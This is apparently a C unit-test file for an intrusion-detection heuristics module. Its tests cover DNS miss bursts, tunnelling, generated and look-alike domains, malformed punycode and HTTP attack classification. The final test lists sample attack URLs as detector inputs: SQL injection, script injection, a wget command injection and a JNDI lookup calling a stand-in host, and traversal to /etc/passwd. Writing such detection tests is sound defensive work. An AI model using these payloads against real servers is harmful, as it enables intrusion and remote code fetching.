// SPDX-License-Identifier: GPL-3.0-or-later
// Heuristics: what fires, what must not, and that a situation is told once a window.
#include "signatures/heuristics/heuristics.h"
#include <setjmp.h>
#include <stdarg.h>
#include <stdio.h>
#include <cmocka.h>
#include "decoders/base/clock.h"
#include "signatures/heuristics/http_attack.h"
#include "signatures/heuristics/lookalike.h"

struct fixture {
	struct heuristics_config config;
	struct option_list own;
	char *own_names[1];
	struct heuristics_worker *worker;
	struct findings findings;
	struct packet packet;
	struct flow flow;
};

static void set_up(struct fixture *f)
{
	*f = (struct fixture) {
		.config = { .enabled = true, .nxdomain_names = 20, .flood_names = 30, .web_paths = 10, .window_s = 60 }
	};
	f->own_names[0] = "mybank.com";
	f->own = (struct option_list) { f->own_names, 1 };
	f->worker = heuristics_worker_new(&f->config, &f->own);
	assert_non_null(f->worker);
	assert_true(address_parse("10.0.0.5", &f->flow.key.src) && address_parse("10.0.0.1", &f->flow.key.dst));
}

static uint32_t name_is_seen(
	struct fixture *f, enum direction direction, uint8_t rcode, const char *name, uint64_t now_ns)
{
	struct inspection inspection = { &f->packet, &f->flow, false, true };
	const struct named named = { .kind = INDICATOR_DOMAIN,
		.place = NAMED_DNS_QUESTION,
		.direction = (uint8_t)direction,
		.rcode = rcode,
		.unanswered = rcode != 0,
		.value = span_text(name) };
	f->packet.ts_ns = now_ns;
	f->findings.count = 0;
	heuristics_begin(f->worker, &inspection, &f->findings);
	heuristics_take(f->worker, &inspection, &named, &f->findings);
	return f->findings.count;
}

static void a_burst_of_missing_names_is_told_once_a_window(void **state)
{
	(void)state;
	struct fixture f;
	uint32_t found = 0;
	set_up(&f);
	for (unsigned i = 0; i < 100; i++) {
		char name[64];
		snprintf(name, sizeof(name), "host%u.some-domain.com", i);
		uint32_t now = name_is_seen(&f, TO_CLIENT, 3, name, i * NS_PER_S / 4);
		found += now;
		if (i < 19)
			assert_int_equal(now, 0);
	}
	assert_int_equal(found, 1);
	for (unsigned i = 0; i < 100; i++) // the same name again and again is one
		assert_int_equal(name_is_seen(&f, TO_CLIENT, 3, "wpad.other-domain.com", (200 + i) * NS_PER_S), 0);
	for (unsigned i = 0; i < 100; i++) { // search lists and reverse lookups are no burst
		char name[64];
		snprintf(name, sizeof(name), "%u.2.0.192.in-addr.arpa", i);
		assert_int_equal(name_is_seen(&f, TO_CLIENT, 3, name, 1000 * NS_PER_S), 0);
		snprintf(name, sizeof(name), "pc%u.mybank.com", i);
		assert_int_equal(name_is_seen(&f, TO_CLIENT, 3, name, 1000 * NS_PER_S), 0);
	}
	heuristics_worker_free(f.worker);
}

static void slow_misses_are_no_burst(void **state)
{
	(void)state;
	struct fixture f;
	set_up(&f);
	for (unsigned i = 0; i < 200; i++) {
		char name[64];
		snprintf(name, sizeof(name), "host%u.some-domain.com", i);
		assert_int_equal(name_is_seen(&f, TO_CLIENT, 3, name, i * 5 * NS_PER_S), 0);
	}
	heuristics_worker_free(f.worker);
}

static void many_names_below_one_domain(void **state)
{
	(void)state;
	struct fixture f;
	uint32_t found = 0;
	set_up(&f);
	for (unsigned i = 0; i < 40; i++) {
		char name[64];
		snprintf(name, sizeof(name), "d%u.tunnel.com", i);
		found += name_is_seen(&f, TO_SERVER, 0, name, i * NS_PER_S / 8);
		snprintf(name, sizeof(name), "www.site-%u.com", i); // many domains are browsing
		assert_int_equal(name_is_seen(&f, TO_SERVER, 0, name, i * NS_PER_S / 8), 0);
	}
	assert_int_equal(found, 1);
	heuristics_worker_free(f.worker);
}

static void a_tunnel_needs_no_domain(void **state)
{
	(void)state;
	struct fixture f;
	uint32_t found = 0;
	set_up(&f);
	for (unsigned i = 0; i < 40; i++) {
		char name[64];
		snprintf(name, sizeof(name), "tunnel.0a%uf", i);
		found += name_is_seen(&f, TO_SERVER, 0, name, i * NS_PER_S / 8);
		snprintf(name, sizeof(name), "192.0.2.%u", i); // an address asked for as a name
		assert_int_equal(name_is_seen(&f, TO_SERVER, 0, name, i * NS_PER_S / 8), 0);
		snprintf(name, sizeof(name), "pc%u.site2", i); // an inside zone
		assert_int_equal(name_is_seen(&f, TO_SERVER, 0, name, i * NS_PER_S / 8), 0);
		snprintf(name, sizeof(name), "a%u.xn--p1a%ui", i, i % 5);
		assert_int_equal(name_is_seen(&f, TO_SERVER, 0, name, i * NS_PER_S / 8), 0);
	}
	assert_int_equal(found, 1);
	heuristics_worker_free(f.worker);
}

static void a_drawn_name_must_be_missing_too(void **state)
{
	(void)state;
	struct fixture f;
	set_up(&f);
	assert_int_equal(name_is_seen(&f, TO_CLIENT, 0, "xkqwzlvbnmfghjd.com", 0), 0);
	assert_int_equal(name_is_seen(&f, TO_CLIENT, 3, "xkqwzlvbnmfghjd.com", 0), 1);
	assert_int_equal(f.findings.items[0].rule->sid, HEURISTICS_GENERATED_NAME);
	assert_int_equal(name_is_seen(&f, TO_CLIENT, 3, "wikipedia-mirror.com", 0), 0);
	heuristics_worker_free(f.worker);
}

static void a_long_drawn_name_that_is_visited(void **state)
{
	(void)state;
	static const struct {
		const char *name;
		unsigned found;
	} cases[] = { { "www.xkqwzlvbnmfghjdqpz.com", 1 }, { "xkqwz.com", 0 }, { "internationalization.com", 0 },
		{ "d3k81ch9hvuctcqwrtz1.cloudfront.net", 0 }, { "xkqwzlvbnmfghjdqpz.mybank.com", 0 } };
	struct fixture f;
	set_up(&f);
	for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		struct inspection inspection = { &f.packet, &f.flow, false, true };
		const struct named named = {
			.kind = INDICATOR_DOMAIN, .place = NAMED_TLS_SNI, .value = span_text(cases[i].name)
		};
		f.findings.count = 0;
		heuristics_begin(f.worker, &inspection, &f.findings);
		heuristics_take(f.worker, &inspection, &named, &f.findings);
		if (f.findings.count != cases[i].found)
			fail_msg("%s: %u", cases[i].name, f.findings.count);
	}
	heuristics_worker_free(f.worker);
}

static void look_alikes_of_the_own_names(void **state)
{
	(void)state;
	struct fixture f;
	set_up(&f);
	// Cyrillic "a"
	assert_int_equal(name_is_seen(&f, TO_SERVER, 0, "login.xn--mybnk-6ve.com", 0), 1);
	assert_int_equal(f.findings.items[0].rule->sid, HEURISTICS_LOOKALIKE);
	assert_int_equal(name_is_seen(&f, TO_SERVER, 0, "rnybank.com", 0), 1);
	assert_int_equal(name_is_seen(&f, TO_SERVER, 0, "www.mybank.com", 0), 0);
	assert_int_equal(name_is_seen(&f, TO_SERVER, 0, "ourbank.com", 0), 0);
	heuristics_worker_free(f.worker);
}

static void hostile_punycode_is_refused(void **state)
{
	(void)state;
	static const char *const labels[] = { "xn--", "xn---", "xn--99999999999999999999", "xn--zzzzzzzzzzzzzzzzzzzz",
		"xn--a-", "xn--\x80", "xn--aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa-bbbbbbbbbbbb" };
	char out[LOOKALIKE_MAX];
	for (size_t i = 0; i < sizeof(labels) / sizeof(labels[0]); i++)
		assert_true(lookalike_skeleton(span_text(labels[i]), out) <= LOOKALIKE_MAX);
	assert_int_equal(lookalike_skeleton(span_text("xn--99999999999999999999"), out), 0);
}

static void attacks_are_told_apart(void **state)
{
	(void)state;
	static const struct {
		const char *text;
		enum http_attack attack;
	} cases[] = {
		{ "/a.php?id=1+UnIoN%20sElEcT+2", ATTACK_SQL },
		{ "/q?x=%3Cscript%3Ealert(1)", ATTACK_SCRIPT },
		{ "/cgi-bin/a?c=;wget+http://198.51.100.1/x", ATTACK_COMMAND },
		{ "/?x=${jndi:ldap://198.51.100.1/a}", ATTACK_COMMAND },
		{ "/../../etc/passwd", ATTACK_TRAVERSAL },
		{ "/%2e%2e/%2e%2e/boot.ini", ATTACK_TRAVERSAL },
		{ "/", ATTACK_NONE },
		{ "/static/app.js?v=..%2", ATTACK_NONE },
		{ "/search?q=credit+union+selection+of+cards", ATTACK_NONE },
		{ "/search?q=student+union+select+committee", ATTACK_NONE },
		{ "/search?q=union+select+", ATTACK_NONE },
		{ "/a.php?id=1+union+select+null--", ATTACK_SQL },
		{ "/a.php?id=1+union+all+select+(user),2", ATTACK_SQL },
		{ "/a.php?id=1+union+select+concat(a,b)+from+c", ATTACK_SQL },
		{ "/a.php?id=1+union+select+distinct+name+from+users", ATTACK_SQL },
		{ "/a.php?id=1+union+select+%27a%27", ATTACK_SQL },
		{ "/docs/script.html", ATTACK_NONE },
		{ "/a/../b", ATTACK_NONE },
	};
	for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++)
		if (http_attack_of(span_text(cases[i].text), NULL) != cases[i].attack)
			fail_msg("%s", cases[i].text);
	assert_string_equal(
		http_scanner_of(span_text("Mozilla/5.0 (compatible; Nmap Scripting Engine)")), "nmap scripting");
	assert_null(http_scanner_of(span_text("Mozilla/5.0 (X11; Linux x86_64) Firefox/120.0")));
	assert_null(http_command_client_of(span_text("Mozilla/5.0")));
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(a_burst_of_missing_names_is_told_once_a_window),
		cmocka_unit_test(slow_misses_are_no_burst),
		cmocka_unit_test(many_names_below_one_domain),
		cmocka_unit_test(a_tunnel_needs_no_domain),
		cmocka_unit_test(a_drawn_name_must_be_missing_too),
		cmocka_unit_test(a_long_drawn_name_that_is_visited),
		cmocka_unit_test(look_alikes_of_the_own_names),
		cmocka_unit_test(hostile_punycode_is_refused),
		cmocka_unit_test(attacks_are_told_apart),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
